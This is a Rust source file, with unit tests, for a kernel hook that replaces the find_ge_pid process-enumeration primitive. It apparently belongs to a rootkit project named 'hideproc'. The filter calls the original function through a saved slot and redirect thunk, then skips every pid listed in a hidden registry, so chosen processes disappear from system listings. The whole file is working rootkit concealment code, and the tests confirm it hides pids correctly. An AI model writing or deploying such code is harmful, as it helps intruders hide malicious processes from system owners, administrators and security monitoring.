//! `EnumerationFilter`: the replacement for `find_ge_pid`.
//!
//! Calls the original primitive and, while the result is hidden, asks
//! again from `result + 1`. A caller walking pids upward sees hidden pids
//! as gaps; exhaustion looks exactly like the unfiltered primitive.
//!
//! The original is reached through the hook's `OriginalSlot` and the
//! host's `CallGate`, inside a `ReentryScope`, so the redirect thunk lets
//! those calls through to the real body.

use std::sync::Arc;

use hideproc_core::enumerate::{CallGate, FindGePid};
use hideproc_core::pid::Pid;
use hideproc_core::{kdebug, ktrace};

use crate::guard::ReentryScope;
use crate::hook::OriginalSlot;
use crate::registry::HiddenRegistry;

pub struct EnumerationFilter {
    registry: Arc<HiddenRegistry>,
    original: Arc<OriginalSlot>,
    gate: Arc<dyn CallGate>,
}

impl EnumerationFilter {
    pub fn new(
        registry: Arc<HiddenRegistry>,
        original: Arc<OriginalSlot>,
        gate: Arc<dyn CallGate>,
    ) -> Self {
        Self {
            registry,
            original,
            gate,
        }
    }

    fn real_find_ge_pid(&self, nr: Pid) -> Option<Pid> {
        let Some(target) = self.original.load() else {
            kdebug!("original slot empty, reporting exhaustion for {}", nr);
            return None;
        };
        let _scope = ReentryScope::enter();
        self.gate.call(target, nr)
    }
}

impl FindGePid for EnumerationFilter {
    fn find_ge_pid(&self, nr: Pid) -> Option<Pid> {
        let mut pid = self.real_find_ge_pid(nr);
        while let Some(found) = pid {
            if !self.registry.is_hidden(found) {
                break;
            }
            ktrace!("skip hidden pid {}", found);
            // Nothing above pid_t::MAX: hidden MAX means exhausted.
            pid = found.next().and_then(|next| self.real_find_ge_pid(next));
        }
        pid
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hideproc_core::symbol::SymbolAddr;
    use std::collections::BTreeSet;
    use std::sync::atomic::{AtomicUsize, Ordering};

    /// Gate over a fixed pid set that counts how often it is called.
    struct TableGate {
        pids: BTreeSet<Pid>,
        calls: AtomicUsize,
        saw_reentry: AtomicUsize,
    }

    impl TableGate {
        fn new(pids: &[i32]) -> Arc<Self> {
            Arc::new(Self {
                pids: pids.iter().copied().map(Pid::new).collect(),
                calls: AtomicUsize::new(0),
                saw_reentry: AtomicUsize::new(0),
            })
        }
    }

    impl CallGate for TableGate {
        fn call(&self, _target: SymbolAddr, nr: Pid) -> Option<Pid> {
            self.calls.fetch_add(1, Ordering::Relaxed);
            if ReentryScope::active() {
                self.saw_reentry.fetch_add(1, Ordering::Relaxed);
            }
            self.pids.range(nr..).next().copied()
        }
    }

    fn filter_over(gate: &Arc<TableGate>, hidden: &[i32]) -> EnumerationFilter {
        let registry = Arc::new(HiddenRegistry::new());
        for &h in hidden {
            registry.hide(Pid::new(h)).unwrap();
        }
        let original = Arc::new(OriginalSlot::new());
        original.store(SymbolAddr(0x8100_0000));
        EnumerationFilter::new(registry, original, gate.clone())
    }

    fn walk(f: &dyn FindGePid) -> Vec<i32> {
        let mut seen = Vec::new();
        let mut nr = Pid::INIT;
        while let Some(p) = f.find_ge_pid(nr) {
            seen.push(p.as_raw());
            match p.next() {
                Some(n) => nr = n,
                None => break,
            }
        }
        seen
    }

    #[test]
    fn empty_registry_matches_original() {
        let gate = TableGate::new(&[1, 2, 5, 9]);
        let f = filter_over(&gate, &[]);
        for nr in 0..12 {
            let expect = gate.pids.range(Pid::new(nr)..).next().copied();
            assert_eq!(f.find_ge_pid(Pid::new(nr)), expect, "nr={}", nr);
        }
    }

    #[test]
    fn hidden_pids_become_gaps() {
        let gate = TableGate::new(&[1, 2, 3, 4, 5]);
        let f = filter_over(&gate, &[2, 3]);
        assert_eq!(walk(&f), vec![1, 4, 5]);
        assert_eq!(f.find_ge_pid(Pid::new(2)), Some(Pid::new(4)));
    }

    #[test]
    fn all_hidden_terminates_on_exhaustion() {
        let gate = TableGate::new(&[10, 11, 12]);
        let f = filter_over(&gate, &[10, 11, 12]);
        assert_eq!(f.find_ge_pid(Pid::new(10)), None);
        // one call per hidden pid plus the final exhausted one
        assert_eq!(gate.calls.load(Ordering::Relaxed), 4);
    }

    #[test]
    fn hidden_max_pid_is_exhaustion() {
        let gate = TableGate::new(&[5, i32::MAX]);
        let f = filter_over(&gate, &[i32::MAX]);
        assert_eq!(f.find_ge_pid(Pid::new(6)), None);
        assert_eq!(f.find_ge_pid(Pid::new(5)), Some(Pid::new(5)));
    }

    #[test]
    fn original_called_inside_reentry_scope() {
        let gate = TableGate::new(&[1, 2]);
        let f = filter_over(&gate, &[1]);
        assert_eq!(f.find_ge_pid(Pid::INIT), Some(Pid::new(2)));
        let calls = gate.calls.load(Ordering::Relaxed);
        assert_eq!(gate.saw_reentry.load(Ordering::Relaxed), calls);
        assert!(!ReentryScope::active());
    }

    #[test]
    fn empty_slot_reports_exhaustion() {
        let gate = TableGate::new(&[1, 2]);
        let registry = Arc::new(HiddenRegistry::new());
        let f = EnumerationFilter::new(registry, Arc::new(OriginalSlot::new()), gate.clone());
        assert_eq!(f.find_ge_pid(Pid::INIT), None);
        assert_eq!(gate.calls.load(Ordering::Relaxed), 0);
    }

    #[test]
    fn duplicate_hidden_entries_still_skip_once() {
        let gate = TableGate::new(&[3, 4]);
        let f = filter_over(&gate, &[3, 3, 3]);
        assert_eq!(walk(&f), vec![4]);
    }
}
